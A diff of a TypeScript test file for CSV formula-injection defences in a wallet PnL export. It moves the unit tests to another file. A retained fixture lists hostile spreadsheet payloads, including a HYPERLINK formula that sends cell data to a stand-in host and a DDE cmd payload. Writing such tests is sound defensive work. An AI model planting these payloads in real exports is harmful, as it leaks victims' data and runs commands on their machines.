@@ -1,7 +1,6 @@
 // Labels and group names are user text: no export may turn them into live spreadsheet formulas.
 import { describe, expect, it } from 'vitest';
 import type { ExportFile } from '../shared/views';
-import { csvCell, toCsv } from '../shared/engine/exports';
 import { testBackend } from './test/backend';
 import { useTempDirs } from './test/temp-dir';
 
@@ -10,20 +9,7 @@ const tempDir = useTempDirs();
 const HOSTILE = ['=HYPERLINK("http://e.vil/?"&A1,"M")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3'];
 
 describe('CSV formula injection', () => {
-  it('neutralises every formula start, keeps numbers numeric and text intact', () => {
-    expect(csvCell('=1+1')).toBe("'=1+1");
-    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(csvCell('+1')).toBe("'+1");
-    expect(csvCell('-2+3')).toBe("'-2+3");
-    expect(csvCell('\tx')).toBe("'\tx");
-    expect(csvCell('＝1+1')).toBe("'＝1+1");
-    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
-    expect(csvCell('-12.5')).toBe('-12.5');
-    expect(csvCell('-0.000000001')).toBe('-0.000000001');
-    expect(csvCell('Main wallet')).toBe('Main wallet');
-    expect(toCsv(['a'], [['=1'], ['-1']])).toBe("a\r\n'=1\r\n-1\r\n");
-  });
-
+  // The cell rules themselves: shared/csv.test.ts.
   it('the PnL CSV through the backend carries hostile wallet labels and groups as text', async () => {
     const backend = testBackend(tempDir());
     const addresses = [
